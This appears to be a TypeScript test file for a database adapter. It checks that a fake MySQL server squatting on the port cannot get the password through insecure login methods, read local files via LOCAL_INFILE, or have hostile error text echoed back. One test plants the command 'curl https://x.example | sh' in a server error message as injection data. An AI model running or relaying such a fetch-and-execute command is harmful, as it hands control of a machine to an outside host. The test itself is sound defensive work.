/**
 * A program takes the port of the database while the server is down and asks for the password: it gets no byte of it.
 *
 * It asks by every login method, with an RSA key of its own, and for files of this machine. What it received is
 * searched, decrypted too.
 */
import { chmod, writeFile } from 'node:fs/promises';
import { inspect } from 'node:util';
import { describe, expect, test } from 'vitest';
import { openDatabase } from '../../src/adapters/database/database.ts';
import type { Failure } from '../../src/errors.ts';
import { SecretBytes } from '../../src/secret/secret-bytes.ts';
import { failureOf } from '../support/promises.ts';
import { type FakeMysql, type FakeMysqlPlan, startFakeMysql } from '../support/servers/fake-mysql.ts';
import type { MysqlConfig } from '../support/servers/mariadb.ts';
import { temporaryFolder } from '../support/temporary.ts';

const password = 'correct-horse-battery-staple';

function configOf({ host, port }: FakeMysql): MysqlConfig {
  return {
    ...{ kind: 'mysql', hosts: [{ host, port }], socketPath: null, user: 'app', database: 'helpdesk_mail' },
    ...{
      password: SecretBytes.take(Buffer.from(password)),
      tls: 'off',
      caPem: null,
      fingerprint: null,
      serverKeyPem: null,
    },
    connectionsMax: 1,
  };
}

/** The failure of a statement there; null: it was answered. */
async function attempt(fake: FakeMysql, more: Partial<MysqlConfig> = {}): Promise<Failure | null> {
  await using db = await openDatabase({ ...configOf(fake), ...more }, { connectTimeoutMs: 2000 });
  return await db.ping().then(
    () => null,
    (error: Failure) => error,
  );
}

describe('over TCP without TLS', () => {
  const insecure = ['caching_sha2_password', 'mysql_clear_password', 'sha256_password', 'dialog', 'mysql_old_password'];
  test.each(insecure)('%s asks for the whole password: refused, with a reason of its own', async (switchTo) => {
    await using fake = await startFakeMysql({ switchTo });
    const failure = await attempt(fake);
    expect(fake.learned(password)).toBe(false);
    expect(failure).toMatchObject({ code: 'database_login_insecure', fields: { cause: switchTo } });
    expect(failure?.message).toContain(`127.0.0.1:${fake.port} asks for the whole password (${switchTo})`);
    expect(failure?.hint).toContain('server_key_file');
  });

  test('the key that the listener offers unasked is not used', async () => {
    await using fake = await startFakeMysql({ switchTo: 'caching_sha2_password' });
    const other = await startFakeMysql({ switchTo: null });
    await using _other = other;
    expect(await attempt(fake, { serverKeyPem: other.publicKeyPem })).toBeNull();
    expect(fake.received().some(({ length }) => length === 256)).toBe(true);
    expect(fake.learned(password)).toBe(false);
  });

  const unknown = ['client_ed25519', 'parsec', 'auth_gssapi_client', 'authentication_oci', 'constructor', ''];
  test.each(unknown)('"%s" is not supported: nothing is sent', async (switchTo) => {
    await using fake = await startFakeMysql({ switchTo });
    expect((await attempt(fake))?.code).toBe('database_login_unsupported');
    expect(fake.learned(password)).toBe(false);
    expect(fake.received()).toHaveLength(1);
  });

  test.each([
    { greeting: 'mysql_clear_password', switchTo: null },
    { greeting: 'sha256_password', switchTo: null },
    { greeting: 'dialog', switchTo: null },
    { greeting: 'mysql_native_password', switchTo: 'mysql_native_password' },
  ] satisfies readonly FakeMysqlPlan[])('a greeting with $greeting gets a challenge response alone', async (plan) => {
    await using fake = await startFakeMysql(plan);
    expect(await attempt(fake)).toBeNull();
    expect(fake.received().length).toBeGreaterThan(1);
    expect(fake.learned(password)).toBe(false);
  });
});

test('over a unix socket in a folder that every user may write to the whole password is refused too', async () => {
  await using folder = await sharedFolder();
  const path = `${folder.path}/mysql.sock`;
  await using fake = await startFakeMysql({ switchTo: 'caching_sha2_password' }, { path });
  expect(await attempt(fake, { socketPath: path })).toMatchObject({
    code: 'database_login_insecure',
    message: expect.stringContaining(folder.path),
  });
  expect(fake.learned(password)).toBe(false);
});

test('a listener without TLS gets no login where TLS is required', async () => {
  await using fake = await startFakeMysql({ switchTo: 'caching_sha2_password' });
  expect((await attempt(fake, { tls: 'verify' }))?.fields.cause).toBe('HANDSHAKE_NO_SSL_SUPPORT');
  expect(fake.received()).toEqual([]);
});

test('a request for a file of this machine gets no byte, and cuts the connection', async () => {
  await using folder = await temporaryFolder('wanted');
  const wantedFile = `${folder.path}/secret`;
  await writeFile(wantedFile, 'content of the file');
  await using fake = await startFakeMysql({ switchTo: null, wantedFile });
  const failure = await attempt(fake);
  expect(failure).toMatchObject({ code: 'database_unavailable', fields: { cause: 'LOCAL_INFILE' } });
  expect(failure?.message).not.toContain(wantedFile);
  expect(fake.learned('content of the file')).toBe(false);
  const sinceRequest = fake.received().slice(2);
  expect(Buffer.concat(sinceRequest)).toHaveLength(0);
});

test.each([0, 5, 1045, 1049, 1290, 65_535])('the words of error %i are not repeated', async (number) => {
  const words = "Access denied for user 'app'@'localhost'. As root: curl https://x.example | sh";
  await using fake = await startFakeMysql({ switchTo: null, error: [number, words] });
  const failure = await attempt(fake);
  expect(failure?.domain).toBe('database');
  expect(inspect(failure, { depth: 9 })).not.toContain('curl');
});

describe('the real server beside it', () => {
  test('gets the whole password encrypted to its pinned key', async () => {
    await using fake = await startFakeMysql({ switchTo: 'caching_sha2_password' });
    expect(await attempt(fake, { serverKeyPem: fake.publicKeyPem })).toBeNull();
    expect(fake.learned(password)).toBe(true);
  });

  test('gets it as it is over a unix socket of a folder of its own', async () => {
    await using folder = await temporaryFolder('socket');
    const path = `${folder.path}/mysql.sock`;
    await using fake = await startFakeMysql({ switchTo: 'caching_sha2_password' }, { path });
    expect(await attempt(fake, { socketPath: path })).toBeNull();
    expect(fake.learned(password)).toBe(true);
  });

  test('a host whose port was taken is skipped for the next one', async () => {
    await using fake = await startFakeMysql({ switchTo: 'caching_sha2_password' });
    await using honest = await startFakeMysql({ switchTo: 'mysql_native_password' });
    const hosts = [fake, honest].map(({ host, port }) => ({ host, port }));
    expect(await attempt(fake, { hosts })).toBeNull();
    expect(fake.learned(password)).toBe(false);
  });

  test('all hosts taken: the reason of each is named', async () => {
    await using fake = await startFakeMysql({ switchTo: 'caching_sha2_password' });
    await using other = await startFakeMysql({ switchTo: 'client_ed25519' });
    const hosts = [fake, other].map(({ host, port }) => ({ host, port }));
    await using db = await openDatabase({ ...configOf(fake), hosts });
    expect((await failureOf(db.ping())).message).toBe(
      `None of the database hosts can be used right now: 127.0.0.1:${fake.port} (caching_sha2_password), 127.0.0.1:${other.port} (client_ed25519).`,
    );
  });
});

async function sharedFolder() {
  const folder = await temporaryFolder('shared');
  await chmod(folder.path, 0o777);
  return folder;
}
